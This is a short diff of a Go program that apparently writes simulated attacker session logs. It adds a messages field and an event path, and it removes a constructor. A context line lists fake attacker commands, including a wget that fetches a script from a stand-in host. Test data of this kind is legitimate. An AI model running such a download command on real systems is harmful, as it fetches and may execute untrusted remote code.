@@ -18,11 +18,7 @@ type writer struct {
 	written   []time.Time // of each session
 	lines     int
 	rotations int
-}
-
-func newWriter(path string, attackers int) (*writer, error) {
-	w := &writer{path: path, attackers: attackers}
-	return w, w.open()
+	messages  *messages // nil = there is a log
 }
 
 func (w *writer) open() (err error) {
@@ -37,6 +33,10 @@ var commands = []string{"ls", "cd /tmp", "wget http://192.0.2.7/x.sh", "echo ok"
 
 // session writes one session, all at once.
 func (w *writer) session() error {
+	if w.messages != nil {
+		w.events()
+		return nil
+	}
 	n := w.sessions()
 	who := n % w.attackers
 	now := time.Now().UTC()
